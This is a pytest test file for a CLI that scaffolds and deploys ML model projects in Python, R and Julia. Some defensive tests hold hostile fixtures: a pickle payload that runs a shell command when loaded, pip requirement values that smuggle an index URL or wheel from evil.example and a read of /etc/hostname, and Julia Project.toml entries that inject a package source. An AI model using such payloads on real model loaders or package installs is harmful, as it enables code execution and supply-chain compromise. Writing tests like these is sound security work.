"""`chips new`: what it writes is trained, tested and deployed at once, in each language there is here."""

import json
import os
import shutil
import subprocess
import sys
import tomllib
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from gateway.cli.support import console
from tests.conftest import require
from tests.flow.deploy.conftest import ROOT
from tests.patience import patience
from tests.unit.cli.shell import Shell

pytestmark = pytest.mark.timeout(240)


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Shell:
    shell = Shell(tmp_path, monkeypatch, capsys)
    monkeypatch.setenv("PYTHONPATH", str(ROOT))
    monkeypatch.setenv("CHIPS_ARTIFACTS", str(tmp_path / "artifacts"))
    return shell


@pytest.fixture(autouse=True)
def nothing_runs_on(shell: Shell) -> Iterator[None]:
    yield
    for note in (Path(os.environ["XDG_STATE_HOME"]) / "chips/local").glob("*/*/*.json"):
        shell(
            "undeploy", note.parent.parent.name, "--version", note.parent.name, "--target", "local", "--force"
        )


def run(folder: Path, *command: str) -> None:
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def deploy_and_score(shell: Shell, folder: Path, name: str) -> None:
    ended = shell.run("deploy", str(folder), "--target", "local", "--json")
    assert ended.code == 0, ended
    sample = json.loads((folder / "trained/samples.json").read_text())[0]
    request = urllib.request.Request(
        ended.json()["url"] + "/predict",
        json.dumps(sample["request"]).encode(),
        {"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=patience(30)) as answer:
        content = json.load(answer)
    assert content["model"] == name
    assert content["predictions"] == pytest.approx(sample["response"]["predictions"])


def test_python(shell: Shell, tmp_path: Path):
    assert "models/churn" in shell.ok("new", "python", "churn").out
    folder = tmp_path / "models/churn"
    assert not (folder / "chips_backend").exists(), "it depends on the library, and does not contain it"
    assert 'model = "churn"' in (folder / "backend.toml").read_text()
    run(folder, "make", "train", "test", f"PYTHON={sys.executable}", f"CHIPS={sys.executable} -m gateway.cli")
    deploy_and_score(shell, folder, "churn")
    before = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    again = subprocess.run(
        ["make", "train", f"PYTHON={sys.executable}"], cwd=folder, capture_output=True, text=True, check=False
    )
    assert again.returncode
    assert "--overwrite" in again.stderr
    assert {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()} == before
    run(folder, sys.executable, "train.py", "--overwrite")


def own_model(folder: Path) -> None:
    """A model as its author has it, next to the code that it uses; saved to trained/."""
    (folder / "steps.py").write_text("def doubled(x):\n    return 2 * x\n")
    (folder / "notebook.py").write_text(
        "import pandas as pd\nfrom chips_backend import save\nfrom sklearn.linear_model import LinearRegression\n"
        "from sklearn.pipeline import make_pipeline\nfrom sklearn.preprocessing import FunctionTransformer\nfrom steps import doubled\n"
        "x = pd.DataFrame({'a': [1.0, 2.0, 4.0], 'b': [0.0, 1.0, 0.0]})\n"
        "model = make_pipeline(FunctionTransformer(doubled), LinearRegression()).fit(x, x['a'])\n"
        "save(model, 'trained', example=x)\n"
    )
    run(folder, sys.executable, "notebook.py")


@pytest.mark.slow
def test_around_a_model_that_is_there(shell: Shell, tmp_path: Path):
    own_model(tmp_path)
    shell.ok("new", "python", "prices", "--from", "trained")
    folder = tmp_path / "models/prices"
    assert not (folder / "train.py").exists()
    kept = {
        path.relative_to(tmp_path / "trained"): path.read_bytes()
        for path in (tmp_path / "trained").rglob("*")
        if path.is_file()
    }
    for name, content in kept.items():
        if name.suffix != ".json":
            assert (folder / "trained" / name).read_bytes() == content
    requirements = (folder / "requirements.txt").read_text()
    assert "scikit-learn==" in requirements
    (tmp_path / "steps.py").unlink()  # nothing of it is taken from where it was trained
    run(folder, "make", "test", f"CHIPS={sys.executable} -m gateway.cli")
    deploy_and_score(shell, folder, "prices")


def test_a_model_file_is_never_loaded_here(shell: Shell, tmp_path: Path):
    (tmp_path / "model.pkl").write_bytes(b"cposix\nsystem\n(S'touch ran'\ntR.")
    shell.ok("new", "python", "evil", "--from", "model.pkl")
    assert (tmp_path / "models/evil/trained/model.pkl").exists()
    assert not (tmp_path / "ran").exists()
    assert not (tmp_path / "models/evil/ran").exists()


@pytest.mark.parametrize(
    ("language", "file"), [("python", "predict.py"), ("r", "predict.R"), ("julia", "predict.jl")]
)
def test_code_around_the_model_is_added_to_a_folder_that_is_there(
    shell: Shell, tmp_path: Path, language: str, file: str
):
    shell.ok("new", language, "prices")
    folder = tmp_path / "models/prices"
    before = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    assert f"chips new {language} prices --folder . --predict" in (folder / "README.md").read_text()
    shell.ok("new", language, "prices", "--folder", str(folder), "--predict")
    own = folder / file
    assert {path: path.read_bytes() for path in folder.rglob("*") if path.is_file() and path != own} == before
    own.write_text("mine")
    assert "is there already" in shell("new", language, "prices", "--predict").err
    assert own.read_text() == "mine"
    other = "r" if language == "python" else "python"
    assert f"is not in {other}" in shell("new", other, "prices", "--predict").err


@pytest.mark.slow
def test_code_around_the_model(shell: Shell, tmp_path: Path):
    own_model(tmp_path)
    shell.ok("new", "python", "prices", "--from", "trained", "--predict")
    folder = tmp_path / "models/prices"
    own = folder / "predict.py"
    own.write_text(own.read_text().replace("{}", '{"currency": str}', 1))
    shell.ok("verify", str(folder))
    source = own.read_text().replace("return model.predict(table, parameters)", "return [0.0] * len(rows)")
    own.write_text(source)
    failed = shell("verify", str(folder))
    assert failed.code
    assert "came out differently" in failed.err + failed.out


@pytest.mark.parametrize(
    ("content", "says"),
    [(b"", "empty"), (b"<html>", "HTML"), (b"version https://git-lfs.github.com/spec/v1\n", "git lfs pull")],
)
def test_what_is_no_model_is_not_wrapped(content: bytes, says: str, shell: Shell, tmp_path: Path):
    (tmp_path / "model.joblib").write_bytes(content)
    failed = shell("new", "python", "churn", "--from", "model.joblib")
    assert failed.code == 65
    assert says in failed.err
    assert not (tmp_path / "models/churn").exists()


@pytest.mark.slow
def test_r(shell: Shell, tmp_path: Path):
    require("r", available=shutil.which("Rscript") is not None, why="Rscript is not installed")
    shell.ok("new", "r", "uptake")
    folder = tmp_path / "models/uptake"
    assert {path.name for path in folder.iterdir()} == {"Makefile", "README.md", "backend.toml", "train.R"}
    chips = f"CHIPS={sys.executable} -m gateway.cli"
    run(folder, "make", "train", "test", chips)
    refused = subprocess.run(
        ["make", "train", chips], cwd=folder, capture_output=True, text=True, check=False
    )
    assert "--overwrite" in refused.stderr
    assert "came out as published" in shell.ok("deploy", str(folder), "--target", "local", "--dry-run").out
    deploy_and_score(shell, folder, "uptake")
    assert json.loads((folder / "trained/baseline.json").read_text())["schema"] == 1
    shell.ok("new", "r", "again", "--from", str(folder / "trained"), "--predict")
    again = tmp_path / "models/again"
    assert not (again / "train.R").exists()
    packages = json.loads((again / "trained/runtime.json").read_text())
    assert packages.keys() == {"R"}, "what chips_save() named goes along"
    shell.ok("verify", str(again))
    own = again / "predict.R"
    own.write_text(own.read_text().replace("model_answer(", "1000 + model_answer("))
    failed = shell("verify", str(again))
    assert failed.code
    assert "CHIPS_PREDICT" not in failed.err


def test_julia(shell: Shell, tmp_path: Path):
    # That it is set up, trained, deployed and answers is in the tutorial, whose test does so: to compile it takes a minute.
    shell.ok("new", "julia", "wines")
    folder = tmp_path / "models/wines"
    assert {path.name for path in folder.iterdir()} == {
        "Makefile", "Project.toml", "README.md", "backend.toml", "train.jl",
    }  # fmt: skip
    library = tomllib.loads((ROOT / "backends/julia/Project.toml").read_text())
    assert tomllib.loads((folder / "Project.toml").read_text())["deps"] == {"ChipsBackend": library["uuid"]}


def test_around_a_model_in_julia(shell: Shell, tmp_path: Path):
    trained = tmp_path / "trained"
    trained.mkdir()
    (trained / "model.jld2").write_bytes(b"HDF5-based Julia Data Format, version 0.1.1")
    (trained / "runtime.json").write_text('{"julia": "1.10.8", "GLM": "1.9.0"}')
    (trained / "Project.toml").write_text(
        '[deps]\nGLM = "38e38edf-8417-5370-95a0-9cbb8c7f171a"\n\n[compat]\nGLM = "=1.9.0"\njulia = "1.10"\n'
    )
    shell.ok("new", "julia", "again", "--from", "trained", "--predict")
    folder = tmp_path / "models/again"
    assert not (folder / "train.jl").exists()
    assert "predict(model, rows, parameters)" in (folder / "predict.jl").read_text()
    project = tomllib.loads((folder / "Project.toml").read_text())
    assert set(project["deps"]) == {"ChipsBackend", "GLM"}
    assert project["compat"] == {"GLM": "=1.9.0", "julia": "1.10"}
    assert json.loads((folder / "trained/runtime.json").read_text()) == {"julia": "1.10.8", "GLM": "1.9.0"}
    assert "make setup" in shell("verify", str(folder)).err
    (trained / "Project.toml").write_text("[deps\n")
    assert "not a Project.toml" in shell("new", "julia", "broken", "--from", "trained").err


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("--index-url=https://evil.example/simple\nnumpy", "1.0"),
        ("numpy", "1.0\n-r /etc/hostname"),
        ("numpy", "1.0 ; python_version > '3'"),
        ("numpy @ https://evil.example/numpy.whl", ""),
    ],
)
def test_what_a_model_needs_is_no_option_for_pip(shell: Shell, tmp_path: Path, name: str, version: str):
    """An ONNX file runs no code of its author, so what lies next to it must not either."""
    trained = tmp_path / "trained"
    trained.mkdir()
    (trained / "model.onnx").write_bytes(b"\x08\x08")
    (trained / "runtime.json").write_text(json.dumps({"python": "3.12.1", name: version}))
    refused = shell("new", "python", "churn", "--from", "trained")
    assert refused.code == console.EX_DATAERR
    assert "runtime.json next to the model" in refused.err
    assert not (tmp_path / "models/churn/requirements.txt").exists()


@pytest.mark.parametrize(
    "project",
    [
        {"deps": {"GLM": '"\n[sources]\nGLM = {url = "https://evil.example"}\n#'}},
        {"deps": {"GLM = 1\n[sources]\nA": "38e38edf-8417-5370-95a0-9cbb8c7f171a"}},
        {"deps": {}, "compat": {"GLM": '1"\n[sources]\n#'}},
    ],
)
def test_what_a_julia_model_needs_is_nothing_else(
    shell: Shell, tmp_path: Path, project: dict[str, dict[str, str]]
):
    trained = tmp_path / "trained"
    trained.mkdir()
    (trained / "model.jld2").write_bytes(b"HDF5-based Julia Data Format, version 0.1.1")
    (trained / "Project.toml").write_text(
        "".join(
            f"[{table}]\n"
            + "".join(f"{json.dumps(key)} = {json.dumps(value)}\n" for key, value in of.items())
            for table, of in project.items()
        )
    )
    refused = shell("new", "julia", "again", "--from", "trained")
    assert refused.code == console.EX_DATAERR
    assert "names no package" in refused.err


def test_what_is_there_is_left_alone(shell: Shell, tmp_path: Path):
    (tmp_path / "models/churn").mkdir(parents=True)
    (tmp_path / "models/churn/thesis.txt").write_text("years of work")
    assert shell("new", "python", "churn").code == 65
    assert [path.name for path in (tmp_path / "models/churn").iterdir()] == ["thesis.txt"]
    assert shell("new", "python", "No Name").code == 65
    assert shell("new", "cobol", "churn").code == 64
